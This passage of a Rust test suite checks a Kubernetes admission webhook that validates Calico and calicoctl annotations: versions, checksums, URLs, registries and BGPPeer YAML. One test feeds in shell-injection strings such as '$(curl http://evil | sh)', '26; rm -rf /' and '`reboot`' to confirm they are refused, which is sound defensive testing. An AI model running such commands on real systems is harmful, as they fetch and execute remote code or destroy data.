    assert_eq!(rules_of(&p), vec![rules::BGP_PEER_AS_NUMBER]);
    assert_eq!(p[0].value, None);
    let line = p[0].to_string();
    assert!(
        line.starts_with("capi-calico.io/CALICO_ROUTE_REFLECTORS document 2 (BGPPeer \"rr2\"): spec.asNumber 0 is not allowed"),
        "{line}"
    );
    assert!(
        line.contains("e.g. 65100, the same as CALICO_BGP_AS_NUMBER"),
        "{line}"
    );
    // Encoding problems show the (truncated) value.
    let wrapped = format!("{}\n{}", &rr_b64(RR)[..40], &rr_b64(RR)[40..]);
    let p = problems(&[("CALICO_ROUTE_REFLECTORS", &wrapped)], None);
    assert_eq!(rules_of(&p), vec![rules::ROUTE_REFLECTORS_ENCODING]);
    let value = p[0].value.as_deref().unwrap_or_default();
    assert!(
        value.contains("\\n") && value.ends_with("bytes)"),
        "{value}"
    );
    // Present without CONFIGURE_CALICO_BGP_SETTINGS: validated, kept, warned.
    let (s, warnings) = settings(&[("CALICO_ROUTE_REFLECTORS", &rr_b64(RR))], None);
    assert_eq!(s.route_reflectors.len(), 1);
    assert!(!s.configure_bgp);
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("CALICO_ROUTE_REFLECTORS is not applied")),
        "{warnings:?}"
    );
}

// ------------------------------------------------------------------------------------------------------------
// Version, URL, checksums

/// A peer field newer than `CALICO_VERSION` is refused (that version's calicoctl would refuse the file on the
/// node); the same field with a version that has it is accepted.
#[test]
fn peer_fields_newer_than_the_calico_version_are_refused() {
    let peer = |extra: &str| {
        rr_b64(&format!(
            "apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: rr-1\nspec:\n{extra}"
        ))
    };
    let ip_peer = |field: &str| peer(&format!("  peerIP: 10.0.0.1\n  asNumber: 64512\n{field}"));
    let cases: Vec<(&str, String, bool)> = vec![
        ("v3.31.7", ip_peer("  keepaliveTime: 30s\n"), false),
        ("v3.32.3", ip_peer("  keepaliveTime: 30s\n"), true),
        ("v3.31.7", ip_peer("  nextHopMode: Self\n"), true),
        ("v3.30.7", ip_peer("  nextHopMode: Self\n"), false),
        ("v3.30.7", ip_peer("  localASNumber: 64999\n"), false),
        ("v3.30.7", ip_peer("  reversePeering: Manual\n"), false),
        ("v3.31.7", ip_peer("  reversePeering: Manual\n"), true),
        (
            "v3.29.7",
            peer("  localWorkloadSelector: has(a)\n  asNumber: 64512\n"),
            false,
        ),
        (
            "v3.30.7",
            peer("  localWorkloadSelector: has(a)\n  asNumber: 64512\n"),
            true,
        ),
        ("v3.29.7", ip_peer(""), true),
        // The older history: an older calicoctl refuses these too.
        ("v3.22.0", ip_peer("  numAllowedLocalASNumbers: 1\n"), false),
        ("v3.23.0", ip_peer("  numAllowedLocalASNumbers: 1\n"), true),
        ("v3.24.0", ip_peer("  ttlSecurity: 1\n"), false),
        ("v3.24.0", ip_peer("  reachableBy: 10.0.0.254\n"), false),
        ("v3.25.0", ip_peer("  ttlSecurity: 1\n"), true),
        ("v3.25.0", ip_peer("  filters: [f]\n"), false),
        ("v3.26.0", ip_peer("  filters: [f]\n"), true),
    ];
    let sha = "ab".repeat(32);
    for (version, rr, accepted) in cases {
        let mut pairs = vec![
            ("CALICO_VERSION", version),
            ("CALICO_ROUTE_REFLECTORS", rr.as_str()),
            ("CONFIGURE_CALICO_BGP_SETTINGS", "true"),
            ("INSTALL_CALICOCTL", "true"),
            ("CALICO_BGP_OPTION", "Enabled"),
            ("CALICO_BGP_AS_NUMBER", "64512"),
        ];
        // Versions without built-in checksums need the user's.
        if !["v3.31.7", "v3.30.7", "v3.29.7"].contains(&version) {
            pairs.push(("CALICOCTL_SHA256_AMD64", sha.as_str()));
            pairs.push(("CALICOCTL_SHA256_ARM64", sha.as_str()));
        }
        match resolve(&opted_in(&pairs), None) {
            Resolution::OptedIn { .. } => assert!(accepted, "{version} {rr}: accepted"),
            Resolution::Invalid { problems } => {
                assert!(!accepted, "{version}: {problems:?}");
                assert_eq!(
                    rules_of(&problems),
                    [rules::BGP_PEER_FIELD_VERSION],
                    "{problems:?}"
                );
                assert_eq!(problems[0].key, format!("{PREFIX}CALICO_ROUTE_REFLECTORS"));
                assert!(
                    problems[0]
                        .message
                        .contains(&format!("CALICO_VERSION is {version}")),
                    "{problems:?}"
                );
                assert!(
                    problems[0].message.contains("BGPPeer \"rr-1\""),
                    "{problems:?}"
                );
                // Peers that are not applied are not held to the version.
                let unused: Vec<(&str, &str)> = pairs[..2].to_vec();
                assert!(
                    matches!(
                        resolve(&opted_in(&unused), None),
                        Resolution::OptedIn { .. }
                    ),
                    "{unused:?}"
                );
            }
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn version_and_checksums_table() {
    let sha = "AB".repeat(32);
    let lower = "ab".repeat(32);
    type Case<'a> = (
        Vec<(&'a str, &'a str)>,
        Result<(Option<&'a str>, Option<&'a str>), &'a str>,
    );
    let cases: Vec<Case> = vec![
        (
            vec![("CALICO_VERSION", "v3.30.7")],
            Ok((
                Some("087e1547878913587ebaa756686f38184a730e9af9b71f3d91b92f6c99b60c11"),
                Some("e62d6f909d72bfd8876a363c3f49cda722d7bfdb282a4bbdeca38dd7e26e7578"),
            )),
        ),
        (
            vec![("CALICO_VERSION", "v3.29.7")],
            Ok((
                Some("c4e281a404d14da561c65838195b2a4bcf18aebca1bede5ef6b99e0bf78cb8a0"),
                Some("484479aa441401adf0db2effb911562d25a4c9a3f022aa6a3b082d027108edec"),
            )),
        ),
        (
            vec![("CALICO_VERSION", "v3.32.3"), ("INSTALL_CALICOCTL", "true")],
            Err(rules::VERSION_UNVERIFIED),
        ),
        // Nothing is installed: no checksum needed.
        (vec![("CALICO_VERSION", "v3.32.3")], Ok((None, None))),
        (
            vec![
                ("CALICO_VERSION", "v3.32.3"),
                ("CALICOCTL_SHA256_AMD64", &sha),
            ],
            Ok((Some(&lower), None)),
        ),
        (
            vec![
                ("CALICO_VERSION", "v3.32.3"),
                ("CALICOCTL_SHA256_ARM64", &sha),
            ],
            Ok((None, Some(&lower))),
        ),
        (
            vec![
                ("CALICO_VERSION", "v3.32.3"),
                ("CALICOCTL_SHA256_AMD64", &sha),
                ("CALICOCTL_SHA256_ARM64", &sha),
            ],
            Ok((Some(&lower), Some(&lower))),
        ),
        (
            vec![
                ("CALICO_VERSION", "v3.32.3"),
                ("CALICOCTL_SHA256_AMD64", "xyz"),
            ],
            Err(rules::SHA256_FORMAT),
        ),
        (
            vec![("CALICO_VERSION", "3.31.7")],
            Err(rules::VERSION_FORMAT),
        ),
        // A known version: only its own digest is accepted (in any case) when calicoctl is installed; otherwise
        // the digest is not used (and a warning says so).
        (
            vec![
                ("CALICOCTL_SHA256_AMD64", &sha),
                ("INSTALL_CALICOCTL", "true"),
            ],
            Err(rules::SHA256_NOT_BUILTIN),
        ),
        (
            vec![("CALICOCTL_SHA256_AMD64", &sha)],
            Ok((
                Some(&lower),
                Some("d7adff41398cb77b97451bf238022376382725ff231228f78b3ebc35d9fb9fda"),
            )),
        ),
        (
            vec![
                ("CALICO_VERSION", "v3.30.7"),
                ("CALICOCTL_SHA256_ARM64", &sha),
                ("INSTALL_CALICOCTL", "true"),
            ],
            Err(rules::SHA256_NOT_BUILTIN),
        ),
        (
            vec![(
                "CALICOCTL_SHA256_AMD64",
                "1B91928ADC39861BA5E04D8D15C4CE489731269B07A8E7444C0FDF677F041113",
            )],
            Ok((
                Some("1b91928adc39861ba5e04d8d15c4ce489731269b07a8e7444c0fdf677f041113"),
                Some("d7adff41398cb77b97451bf238022376382725ff231228f78b3ebc35d9fb9fda"),
            )),
        ),
    ];
    for (pairs, want) in cases {
        match want {
            Ok((amd64, arm64)) => {
                let (s, _) = settings(&pairs, None);
                assert_eq!(
                    s.calicoctl.sha256_amd64.as_ref().map(|s| s.0.as_str()),
                    amd64,
                    "{pairs:?}"
                );
                assert_eq!(
                    s.calicoctl.sha256_arm64.as_ref().map(|s| s.0.as_str()),
                    arm64,
                    "{pairs:?}"
                );
            }
            Err(rule) => assert_eq!(rules_of(&problems(&pairs, None)), vec![rule], "{pairs:?}"),
        }
    }
    let p = problems(
        &[("CALICO_VERSION", "v3.32.3"), ("INSTALL_CALICOCTL", "true")],
        None,
    );
    assert!(
        p[0].message.contains("built in: v3.31.7, v3.30.7, v3.29.7"),
        "{}",
        p[0]
    );
    assert!(p[0].message.contains("never installed"), "{}", p[0]);
    let p = problems(&[("CALICO_VERSION", "3.31.7")], None);
    assert!(
        p[0].message.contains("did you mean \"v3.31.7\"?"),
        "{}",
        p[0]
    );
    // One architecture only, installing: warning about the other.
    let (_, warnings) = settings(
        &[
            ("CALICO_VERSION", "v3.32.3"),
            ("CALICOCTL_SHA256_AMD64", &sha),
            ("INSTALL_CALICOCTL", "true"),
        ],
        None,
    );
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].contains("no arm64 calicoctl checksum for v3.32.3: arm64 nodes will refuse"),
        "{warnings:?}"
    );
    // Overriding a built-in checksum: refused, and the message names the built-in digest and what to do.
    let p = problems(
        &[
            ("CALICOCTL_SHA256_AMD64", &sha),
            ("INSTALL_CALICOCTL", "true"),
        ],
        None,
    );
    assert_eq!(p.len(), 1, "{p:?}");
    assert_eq!(p[0].key, format!("{PREFIX}CALICOCTL_SHA256_AMD64"));
    assert!(
        p[0].message.contains(
            "is not the SHA-256 of calicoctl v3.31.7 for amd64 \
             (1b91928adc39861ba5e04d8d15c4ce489731269b07a8e7444c0fdf677f041113)"
        ) && p[0].message.contains("remove the annotation"),
        "{}",
        p[0]
    );
}

#[test]
fn url_through_resolve() {
    let (s, warnings) = settings(
        &[
            (
                "CALICOCTL_URL",
                "https://mirror.local:8443/calico/{version}/calicoctl-{arch}",
            ),
            ("INSTALL_CALICOCTL", "true"),
        ],
        None,
    );
    assert_eq!(
        s.calicoctl.url_template,
        "https://mirror.local:8443/calico/{version}/calicoctl-{arch}"
    );
    assert!(warnings.is_empty(), "{warnings:?}");
    let (_, warnings) = settings(
        &[
            ("CALICOCTL_URL", "http://mirror.local/{version}/{arch}"),
            ("INSTALL_CALICOCTL", "true"),
        ],
        None,
    );
    assert_eq!(warnings.len(), 1);
    assert!(warnings[0].contains("uses http://"), "{warnings:?}");
    let (_, warnings) = settings(
        &[("CALICOCTL_URL", "https://mirror.local/{version}/{arch}")],
        None,
    );
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("INSTALL_CALICOCTL is not \"true\"")),
        "{warnings:?}"
    );
    for bad in [
        "https://mirror.local/$(id)/{version}/{arch}",
        "https://mirror.local/{version}",
        "file:///{version}/{arch}",
    ] {
        assert_eq!(
            rules_of(&problems(&[("CALICOCTL_URL", bad)], None)),
            vec![rules::URL_TEMPLATE],
            "{bad}"
        );
    }
}

#[test]
fn every_warning_is_short() {
    let sha = "ab".repeat(32);
    let rr = rr_b64(RR);
    let scenarios: Vec<Vec<(&str, &str)>> = vec![
        vec![
            ("CALICO_ROUTE_REFLECTORS", &rr),
            ("CALICO_BGP_AS_NUMBER", "65100"),
            ("CALICOCTL_URL", "http://m/{version}/{arch}"),
            ("CALICO_VERSION", "v3.32.3"),
            ("CALICOCTL_SHA256_AMD64", &sha),
            ("CALICOCTL_SHA256_ARM64", &sha),
            ("CALICO_BLOCK_SIZE", "122"),
        ],
        vec![
            ("CALICO_VERSION", "v3.32.3"),
            ("CALICOCTL_SHA256_ARM64", &sha),
            ("INSTALL_CALICOCTL", "true"),
            ("CALICOCTL_URL", "http://m/{version}/{arch}"),
        ],
    ];
    for pairs in scenarios {
        let (_, warnings) = settings(&pairs, None);
        assert!(warnings.len() >= 2, "{warnings:?}");
        for w in warnings {
            assert!(w.chars().count() < 120, "{} chars: {w}", w.chars().count());
        }
    }
    let many: Vec<String> = keys::KNOWN_KEYS[1..]
        .iter()
        .map(|k| format!("{PREFIX}{k}"))
        .collect();
    let all: BTreeMap<String, String> = many.into_iter().map(|k| (k, "x".into())).collect();
    let Resolution::NotOptedIn { warnings } = resolve(&all, None) else {
        panic!("not opted in")
    };
    assert!(warnings[0].chars().count() < 120, "{}", warnings[0]);
    let long_key: BTreeMap<String, String> =
        [(format!("{PREFIX}{}", "Z".repeat(500)), String::new())].into();
    let Resolution::NotOptedIn { warnings } = resolve(&long_key, None) else {
        panic!("not opted in")
    };
    assert!(warnings[0].chars().count() < 120, "{}", warnings[0]);
}

// ------------------------------------------------------------------------------------------------------------
// Image source

#[test]
fn registry_and_image_path_reach_the_settings() {
    let (s, warnings) = settings(&[], None);
    assert_eq!(s.images, ImageSource::default());
    assert!(warnings.is_empty());
    let (s, _) = settings(
        &[
            ("CALICO_REGISTRY", "registry.example.internal:5000"),
            ("CALICO_IMAGE_PATH", "mirror/calico"),
            ("CALICO_IMAGE_PULL_SECRET", "calico-pull"),
        ],
        None,
    );
    assert_eq!(
        s.images,
        ImageSource {
            registry: Some("registry.example.internal:5000/".into()),
            image_path: Some("mirror/calico".into()),
            pull_secret: Some("calico-pull".into()),
        }
    );
}

#[test]
fn bad_registry_and_image_path_are_problems_naming_their_keys() {
    let p = problems(
        &[
            ("CALICO_REGISTRY", "mirror"),
            ("CALICO_IMAGE_PATH", "a//b"),
            ("CALICO_IMAGE_PULL_SECRET", "Calico_Pull"),
        ],
        None,
    );
    assert_eq!(
        rules_of(&p),
        vec![
            rules::REGISTRY_FORMAT,
            rules::IMAGE_PATH_FORMAT,
            rules::PULL_SECRET_FORMAT
        ]
    );
    assert_eq!(p[0].key, "capi-calico.io/CALICO_REGISTRY");
    assert_eq!(p[0].value.as_deref(), Some("\"mirror\""));
    assert_eq!(p[1].key, "capi-calico.io/CALICO_IMAGE_PATH");
    assert_eq!(p[2].key, "capi-calico.io/CALICO_IMAGE_PULL_SECRET");
    assert!(p[2].message.contains("is not a Secret name"), "{}", p[2]);
}

#[test]
fn pull_secret_names_table() {
    for (raw, ok) in [
        ("calico-pull", true),
        ("pull.secret.v1", true),
        ("a", true),
        ("Calico", false),
        ("-x", false),
        ("x-", false),
        ("a_b", false),
        ("", false),
        ("a/b", false),
        ("a b", false),
        ("$(id)", false),
    ] {
        assert_eq!(values::parse_pull_secret(raw).is_ok(), ok, "{raw:?}");
    }
    assert!(values::parse_pull_secret(&"a".repeat(253)).is_ok());
    assert!(values::parse_pull_secret(&"a".repeat(254)).is_err());
}

// ------------------------------------------------------------------------------------------------------------
// Everything at once, hostile values, rendering

#[test]
fn all_problems_are_collected() {
    let pairs = [
        ("CALICO_BLOCKSIZE", "26"),
        ("CALICO_BGP_OPTION", "enabled"),
        ("CALICO_BLOCK_SIZE", "19"),
        ("CALICO_POD_CIDR", "10.0.0.1/8"),
        ("CALICO_ENCAPSULATION", "IPIP"),
        ("CALICO_NAT_OUTGOING", "yes"),
        ("INSTALL_CALICOCTL", "TRUE"),
        ("CONFIGURE_CALICO_BGP_SETTINGS", "1"),
        ("CALICO_BGP_AS_NUMBER", "0"),
        ("CALICO_ROUTE_REFLECTORS", "not base64"),
        ("CALICO_VERSION", "latest"),
        ("CALICOCTL_URL", "ftp://x/{version}/{arch}"),
        ("CALICOCTL_SHA256_AMD64", "abc"),
        ("CALICOCTL_SHA256_ARM64", "def"),
        ("CALICO_REGISTRY", "https://mirror"),
        ("CALICO_IMAGE_PATH", "Calico"),
    ];
    let p = problems(&pairs, None);
    // 15: every key but CALICO_ENCAPSULATION (IPIP is valid; its BGP rule is not judged on an invalid option).
    assert_eq!(p.len(), 15, "{p:#?}");
    let text = render_problems(&p);
    assert!(
        text.starts_with("15 problems with the capi-calico.io annotations:\n- "),
        "{text}"
    );
    assert_eq!(
        text.lines().filter(|l| l.starts_with("- ")).count(),
        15,
        "{text}"
    );
}

#[test]
fn hostile_values_are_rejected_and_escaped() {
    let huge = "9".repeat(1024 * 1024);
    let hostile = [
        "$(curl http://evil | sh)",
        "`reboot`",
        "26; rm -rf /",
        "26\nINSTALL_CALICOCTL=true",
        "26\0",
        "'\"",
        "\u{1b}[2J",
        huge.as_str(),
    ];
    let keys = keys::KNOWN_KEYS
        .into_iter()
        .filter(|k| *k != keys::CUSTOM_CALICO_DEPLOYMENT);
    for key in keys {
        for value in hostile {
            let p = problems(&[(key, value)], None);
            assert!(!p.is_empty(), "{key}={value:?} accepted");
            for problem in &p {
                let line = problem.to_string();
                assert!(
                    !line.contains('\n') && !line.contains('\0') && !line.contains('\u{1b}'),
                    "{line}"
                );
                assert!(line.len() < 1200, "{key}: {} chars", line.len());
            }
        }
    }
    // A huge unknown key is truncated too.
    let p = problems(&[(&"K".repeat(100_000), "v")], None);
    assert!(p[0].key.chars().count() < 140);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn resolve_never_panics(
        entries in proptest::collection::vec(
            (prop_oneof![
                proptest::sample::select(keys::KNOWN_KEYS.to_vec()).prop_map(String::from),
                "\\PC{0,24}",
            ], "\\PC{0,40}"),
            0..8,
        ),
        blocks in proptest::collection::vec(prop_oneof![
            (any::<u32>(), 0u8..=32).prop_map(|(a, p)| IpNet::new(std::net::Ipv4Addr::from(a).into(), p).expect("prefix")),
            (any::<u128>(), 0u8..=128).prop_map(|(a, p)| IpNet::new(std::net::Ipv6Addr::from(a).into(), p).expect("prefix")),
        ], 0..3),
    ) {
        let mut all: BTreeMap<String, String> = entries.into_iter().map(|(k, v)| (format!("{PREFIX}{k}"), v)).collect();
        all.insert(format!("{PREFIX}CUSTOM_CALICO_DEPLOYMENT"), "true".into());
        let net = ClusterNetwork { pod_cidrs: blocks };
        match resolve(&all, Some(&net)) {
            Resolution::Invalid { problems } => {
                prop_assert!(!problems.is_empty());
                for p in &problems {
                    prop_assert!(!p.to_string().contains('\n'));
                    prop_assert!(!p.rule.is_empty());
                }
            }
            Resolution::OptedIn { warnings, .. } | Resolution::NotOptedIn { warnings } => {
                for w in &warnings {
                    prop_assert!(w.chars().count() < 120, "{}", w);
                }
            }
        }
    }

    #[test]
    fn accepted_values_round_trip(
        block in 20u8..=32,
        asn in 1u32..=2_147_483_647,
        a in 1u8..=223,
        prefix in 8u8..=20,
        bgp in any::<bool>(),
        nat in any::<bool>(),
    ) {
        let cidr = IpNet::new(std::net::Ipv4Addr::new(a, 0, 0, 0).into(), prefix).expect("prefix").trunc();
        prop_assume!(!cidr.contains(&"169.254.0.0".parse::<std::net::IpAddr>().expect("ip")));
        let bgp = if bgp { BgpOption::Enabled } else { BgpOption::Disabled };
        let nat = if nat { NatOutgoing::Enabled } else { NatOutgoing::Disabled };
        let (s, _) = settings(&[
            ("CALICO_BLOCK_SIZE", &block.to_string()),
            ("CALICO_POD_CIDR", &cidr.to_string()),
            ("CALICO_BGP_AS_NUMBER", &asn.to_string()),
            ("CALICO_BGP_OPTION", bgp.as_str()),
            ("CALICO_NAT_OUTGOING", nat.as_str()),
        ], None);
        prop_assert_eq!(s.pod_pool, Some(PodPool { cidr, block_size: block }));
        prop_assert_eq!(s.as_number, Some(asn));
        prop_assert_eq!(s.bgp, bgp);
        prop_assert_eq!(s.nat_outgoing, nat);
        // asdot form of the same number resolves to the same value.
        let asdot = format!("{}.{}", asn >> 16, asn & 0xffff);
        let (s2, _) = settings(&[("CALICO_BGP_AS_NUMBER", &asdot)], None);
        prop_assert_eq!(s2.as_number, Some(asn));
    }
}

/// Field names come from the user's YAML and are echoed in the denial: each is cut, so four names of 3,000 control
/// characters (explicit YAML keys) make a short denial, not one of ~100 KB.
#[test]
fn hostile_field_names_make_a_bounded_denial() {
    let long = "\u{1}".repeat(3000);
    let key = format!("\"{}\"", "\\x01".repeat(3000));
    let doc = format!(
        "apiVersion: projectcalico.org/v3\nkind: BGPPeer\n? {key}\n: 1\nmetadata:\n  name: rr-1\n  ? {key}\n  : 1\n\
         spec:\n  peerIP: 10.0.0.1\n  asNumber: 64512\n  ? {key}\n  : 1\n"
    );
    let rr = rr_b64(&doc);
    let pairs = [
        ("CALICO_ROUTE_REFLECTORS", rr.as_str()),
        ("CONFIGURE_CALICO_BGP_SETTINGS", "true"),
        ("INSTALL_CALICOCTL", "true"),
        ("CALICO_BGP_OPTION", "Enabled"),
        ("CALICO_BGP_AS_NUMBER", "64512"),
    ];
    let Resolution::Invalid { problems } = resolve(&opted_in(&pairs), None) else {
        panic!("unknown fields are refused");
    };
    assert_eq!(problems.len(), 3, "{problems:?}");
    let text: String = problems.iter().map(ToString::to_string).collect();
    assert!(
        !text.contains(&long[..10]),
        "control characters are escaped"
    );
    assert!(text.matches('…').count() >= 3, "{text}");
    assert!(text.len() < 3 * 1024, "{} bytes: {text}", text.len());
}

/// Calico before v3.22 is refused only where the webhook needs to know the release (calicoctl's download and the
/// BGPPeer fields); a Cluster that only has Calico delivered keeps its writes.
#[test]
fn an_old_calico_version_is_refused_only_for_calicoctl_and_bgp() {
    let old = [("CALICO_VERSION", "v3.21.5")];
    assert!(matches!(
        resolve(&opted_in(&old), None),
        Resolution::OptedIn { .. }
    ));
    let sha = "ab".repeat(32);
    let installing = [
        ("CALICO_VERSION", "v3.21.5"),
        ("INSTALL_CALICOCTL", "true"),
        ("CALICOCTL_SHA256_AMD64", sha.as_str()),
        ("CALICOCTL_SHA256_ARM64", sha.as_str()),
    ];
    let Resolution::Invalid { problems } = resolve(&opted_in(&installing), None) else {
        panic!("refused when installing calicoctl");
    };
    assert_eq!(
        rules_of(&problems),
        [rules::VERSION_TOO_OLD],
        "{problems:?}"
    );
    assert!(
        problems[0]
            .to_string()
            .contains("\"v3.21.5\" is older than v3.22.0"),
        "{}",
        problems[0]
    );
}

/// What the webhook cannot check or deliver about valid peers is said in warnings: password Secrets, BGPFilters, and
/// (only when BGP carries the pod routes) peers that leave nodes without a route once the mesh is off.
#[test]
fn peer_warnings_table() {
    const GLOBAL: &str = "  peerIP: 172.16.20.1\n  asNumber: 65100\n";
    let doc = |name: &str, spec: &str| {
        format!(
            "apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: {name}\nspec:\n{spec}"
        )
    };
    let password = "  peerIP: 172.16.20.2\n  asNumber: 65100\n  password:\n    secretKeyRef:\n      name: bgp-secrets\n      key: rr\n";
    let filtered = "  peerIP: 172.16.20.3\n  asNumber: 65100\n  filters: [export-v4]\n";
    let scoped = "  peerIP: 172.16.20.4\n  asNumber: 65100\n  nodeSelector: rack == 'a'\n";
    let all_nodes = "  peerIP: 172.16.20.5\n  asNumber: 65100\n  nodeSelector: all()\n";
    let in_cluster = "  peerSelector: route-reflector == 'true'\n";
    let in_cluster_scoped =
        "  peerSelector: route-reflector == 'true'\n  nodeSelector: rack == 'a'\n";
    let full_mesh = "  peerSelector: all()\n  nodeSelector: all()\n";
    let long = "  peerIP: 172.16.20.6\n  asNumber: 65100\n  password:\n    secretKeyRef:\n      name: a-rather-long-secret-name-for-bgp\n      key: rr\n";
    // (peers, encapsulation, warnings expected: substrings, none of the others)
    let cases: &[(&[&str], &str, &[&str])] = &[
        (&[GLOBAL], "IPIP", &[]),
        (&[GLOBAL], "VXLAN", &[]),
        (&[all_nodes], "None", &[]),
        (
            &[password],
            "VXLAN",
            &[
                "BGP password Secrets to create in calico-system, readable by calico-node: bgp-secrets",
            ],
        ),
        // The names come last: a long one is cut, never the instruction.
        (
            &[long],
            "VXLAN",
            &[
                "BGP password Secrets to create in calico-system, readable by calico-node: a-rather-long",
            ],
        ),
        (
            &[filtered],
            "VXLAN",
            &["BGPFilters to create (Calico skips a missing one: routes unfiltered): export-v4"],
        ),
        (&[scoped], "IPIP", &["no BGPPeer is for all nodes"]),
        (&[scoped], "VXLAN", &[]),
        (&[scoped, GLOBAL], "IPIPCrossSubnet", &[]),
        // In-cluster route reflectors for all nodes: only the route reflector nodes are to be set up.
        (
            &[in_cluster],
            "None",
            &["peerSelector peers: make the selected nodes route reflectors"],
        ),
        (
            &[in_cluster_scoped],
            "IPIP",
            &[
                "peerSelector peers: make the selected nodes",
                "no BGPPeer is for all nodes",
            ],
        ),
        (
            &[in_cluster, GLOBAL],
            "IPIP",
            &["peerSelector peers: make the selected nodes"],
        ),
        (&[in_cluster], "VXLANCrossSubnet", &[]),
        // A full mesh rebuilt from BGPPeers needs no route reflector.
        (&[full_mesh], "IPIP", &[]),
    ];
    let all = [
        "BGP password Secrets to create",
        "BGPFilters to create",
        "peerSelector peers: make",
        "no BGPPeer is for all nodes",
    ];
    for (peers, encapsulation, expected) in cases {
        let text: Vec<String> = peers
            .iter()
            .enumerate()
            .map(|(i, spec)| doc(&format!("rr{i}"), spec))
            .collect();
        let rr = rr_b64(&text.join("---\n"));
        let (_, warnings) = settings(
            &[
                ("CONFIGURE_CALICO_BGP_SETTINGS", "true"),
                ("INSTALL_CALICOCTL", "true"),
                ("CALICO_BGP_OPTION", "Enabled"),
                ("CALICO_BGP_AS_NUMBER", "65100"),
                ("CALICO_ENCAPSULATION", encapsulation),
                ("CALICO_ROUTE_REFLECTORS", rr.as_str()),
            ],
            None,
        );
        for wanted in all {
            let said = warnings.iter().any(|w| w.contains(wanted));
            let expect = expected
                .iter()
                .any(|e| e.contains(wanted) || wanted.contains(e));
            assert_eq!(
                said, expect,
                "{peers:?} {encapsulation}: {wanted:?} in {warnings:#?}"
            );
        }
        // Found in what a `Warning:` line keeps (the admission layer cuts a warning to 116 characters and "...").
        for wanted in *expected {
            assert!(
                warnings
                    .iter()
                    .any(|w| w.chars().take(116).collect::<String>().contains(wanted)),
                "{peers:?} {encapsulation}: {wanted:?} in {warnings:#?}"
            );
        }
    }
}

/// IPv4-mapped IPv6 (`::ffff:a.b.c.d`) is IPv4 to Calico: refused as a pool, a pool from the Cluster's cidrBlocks, a
/// peer address and a peer's gateway.
#[test]
fn ipv4_mapped_ipv6_is_refused() {
    let got = problems(&[("CALICO_POD_CIDR", "::ffff:10.0.0.0/104")], None);
    assert_eq!(rules_of(&got), [rules::POD_CIDR_FORMAT], "{got:#?}");
    assert!(got[0].message.contains("::ffff:0:0/96"), "{got:#?}");

    let got = problems(&[], Some(&network(&["::ffff:10.0.0.0/104"])));
    assert_eq!(rules_of(&got), [rules::POD_CIDR_FORMAT], "{got:#?}");
    assert!(
        got[0].message.contains("is not set, and the pool would be"),
        "{got:#?}"
    );
    let got = problems(&[], Some(&network(&["169.254.0.0/16"])));
    assert_eq!(rules_of(&got), [rules::POD_CIDR_LINK_LOCAL], "{got:#?}");

    for spec in [
        "  peerIP: \"::ffff:192.0.2.1\"\n  asNumber: 65100\n",
        "  peerIP: \"[::ffff:192.0.2.1]:179\"\n  asNumber: 65100\n",
        "  peerIP: 2001:db8::1\n  asNumber: 65100\n  reachableBy: \"::ffff:192.0.2.254\"\n",
    ] {
        let rr = rr_b64(&format!(
            "apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: rr1\nspec:\n{spec}"
        ));
        let got = problems(&[("CALICO_ROUTE_REFLECTORS", rr.as_str())], None);
        assert!(
            got.iter().any(|p| p.message.contains("IPv4-mapped")),
            "{spec}: {got:#?}"
        );
    }
}
